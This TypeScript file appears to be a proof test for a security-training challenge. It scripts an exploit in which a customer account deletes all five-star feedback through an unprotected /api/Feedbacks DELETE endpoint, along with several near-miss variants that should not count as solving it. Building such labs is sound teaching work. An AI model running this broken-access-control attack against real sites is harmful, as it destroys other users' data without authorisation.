import { leaveFeedback } from '@fruit/challenge-kit/leave-feedback'
import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

interface Row {
  readonly id: number
  readonly rating: number
}

/** Returns the ids of feedback with this number of stars from the public list. */
async function withStars(attacker: Attacker, stars: number): Promise<number[]> {
  const { data } = (await attacker.get('/api/Feedbacks')).json()
  return (data as Row[]).filter(({ rating }) => rating === stars).map(({ id }) => id)
}

const remove = (attacker: Attacker, id: number) => attacker.delete(`/api/Feedbacks/${id}`)

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await attacker.becomeCustomer()
    for (const id of await withStars(attacker, 5)) await remove(attacker, id)
  },
  nearMisses: {
    'the same, without signing in': async (attacker) => {
      for (const id of await withStars(attacker, 5)) await remove(attacker, id)
    },
    'all feedback with fewer stars': async (attacker) => {
      await attacker.becomeCustomer()
      for (const stars of [1, 2, 3, 4]) for (const id of await withStars(attacker, stars)) await remove(attacker, id)
    },
    'one of two with five stars': async (attacker) => {
      await attacker.becomeCustomer()
      const [seeded] = await withStars(attacker, 5)
      await leaveFeedback(attacker, { rating: 5 })
      await remove(attacker, seeded!)
    },
    'feedback that there is not': async (attacker) => {
      await attacker.becomeCustomer()
      await remove(attacker, 4711)
    },
    'an attempt to give it fewer stars': async (attacker) => {
      await attacker.becomeCustomer()
      for (const id of await withStars(attacker, 5)) await attacker.put(`/api/Feedbacks/${id}`, { rating: 1 })
    },
  },
})
